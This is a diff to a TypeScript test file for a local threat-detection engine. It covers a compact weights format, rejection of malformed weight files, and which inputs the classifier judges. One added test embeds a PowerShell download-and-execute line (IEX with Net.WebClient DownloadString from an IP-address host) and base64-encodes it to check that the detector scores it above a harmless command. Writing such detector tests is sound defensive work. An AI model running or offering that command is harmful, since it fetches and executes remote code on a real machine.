@@ -5,8 +5,9 @@ import { join } from 'node:path';
 import { describe, expect, test } from 'vitest';
 import type { EnginePack } from '../../../server/engine/engine.ts';
 import { loadKnowledge } from '../../../server/engine/threat/knowledge.ts';
-import { loadConcepts } from '../../../server/engine/threat/text/concepts.ts';
-import { isJudged, readLearnt, writeLearnt } from '../../../server/engine/threat/text/learnt.ts';
+import { Concepts, loadConcepts } from '../../../server/engine/threat/text/concepts.ts';
+import { featureGroups } from '../../../server/engine/threat/text/features.ts';
+import { isJudged, isOnlyWords, readLearnt, writeLearnt } from '../../../server/engine/threat/text/learnt.ts';
 import { guardPack, knowledge, never, openThreatEngine, readEvents } from '../../support/threat-engine.ts';
 
 const engine = await openThreatEngine();
@@ -23,7 +24,15 @@ describe('weights', () => {
 
   test.each([
     ['empty', new Uint8Array()],
-    ['cut off', writeLearnt(new Float64Array(256), { bias: 0, threshold: 1 }).subarray(0, 100)],
+    ['cut off', writeLearnt(new Float64Array(256), { bias: 0, threshold: 1 }).subarray(0, 19)],
+    [
+      'cut off within a gap',
+      Uint8Array.from([...writeLearnt(new Float64Array(256), { bias: 0, threshold: 1 }), 200]),
+    ],
+    [
+      'beyond their buckets',
+      Uint8Array.from([...writeLearnt(new Float64Array(256), { bias: 0, threshold: 1 }), 255, 127, 1]),
+    ],
     ['of another kind', new Uint8Array(276)],
     ['without figures', writeLearnt(new Float64Array(256), { bias: Number.NaN, threshold: 1 })],
   ])('%s are refused', (_, bytes) => {
@@ -31,11 +40,37 @@ describe('weights', () => {
   });
 });
 
+/** `LKTJ`: a byte for each of 256 buckets, as packs had it before only known ones were kept. */
+function olderBytes(): Uint8Array {
+  const bytes = new Uint8Array(20 + 256).map((_, at) => (at < 20 ? 0 : at - 20));
+  const view = new DataView(bytes.buffer);
+  view.setUint32(0, 0x4a_54_4b_4c, true);
+  view.setUint32(4, 8, true);
+  [1, 0, 0.5].forEach((value, at) => {
+    view.setFloat32(8 + 4 * at, value, true);
+  });
+  return bytes;
+}
+
+test('buckets that round to nothing are left out, and those far apart are found again', () => {
+  const weights = new Float64Array(2 ** 20);
+  const text = 'everything of one kind';
+  const sparse = () => writeLearnt(weights, { bias: 0, threshold: 0.5 });
+  expect(sparse().length).toBe(20);
+  expect(readLearnt(sparse()).probability(text)).toBe(0.5);
+  const features = featureGroups(text, [], { bits: 20, concepts: new Concepts() }).flatMap((group) => [
+    ...group.features,
+  ]);
+  for (const feature of features) weights[feature] = -2;
+  expect(sparse().length).toBeLessThan(20 + 5 * features.length);
+  const same = writeLearnt(new Float64Array(2 ** 20).fill(-2), { bias: 0, threshold: 0.5 });
+  expect(readLearnt(sparse()).probability(text)).toBe(readLearnt(same).probability(text));
+});
+
 test('older weights of a pack without meanings are read without the starter’s', async () => {
   const folder = mkdtempSync(join(tmpdir(), 'lokal-guard-'));
   try {
-    const weights = Float64Array.from({ length: 256 }, (_, at) => at - 128);
-    const bytes = writeLearnt(weights, { bias: 0, threshold: 0.5 });
+    const bytes = olderBytes();
     writeFileSync(join(folder, 'learnt.bin'), bytes);
     const { learnt } = await loadKnowledge({
       folder,
@@ -93,11 +128,23 @@ test('everyday words around a command do not hide it', async () => {
   );
 });
 
-test('logs, requests and what was stopped are left to rules', () => {
+test('logs and what was stopped are left to rules; of requests and files the words only add', () => {
   const judged = (text: string) => isJudged(text, readEvents(text));
+  const onlyWords = (text: string) => isOnlyWords(readEvents(text));
   expect(judged('user cannot print')).toBe(true);
-  expect(judged('GET /a?b=c HTTP/1.1\nHost: example.com')).toBe(false);
   expect(judged('product=EDR event=detection name="Trojan" action=quarantined status=resolved')).toBe(false);
-  expect(judged('one line of words\n'.repeat(40))).toBe(false);
+  expect(judged('one line of words\n'.repeat(50))).toBe(false);
   expect(judged('word '.repeat(2000))).toBe(false);
+  expect(onlyWords('user cannot print')).toBe(true);
+  expect(onlyWords('GET /a?b=c HTTP/1.1\nHost: example.com')).toBe(false);
+  expect(onlyWords('one line of words\n'.repeat(20))).toBe(false);
+});
+
+test('a command in base64 is judged by what it runs', () => {
+  const encoded = (command: string) =>
+    `powershell -EncodedCommand ${Buffer.from(command, 'utf16le').toString('base64')}`;
+  const of = (command: string) => knowledge.learnt.probability(encoded(command));
+  expect(of('Get-Service | Format-Table')).toBeLessThan(
+    of("IEX (New-Object Net.WebClient).DownloadString('http://45.9.148.3/a.ps1')"),
+  );
 });
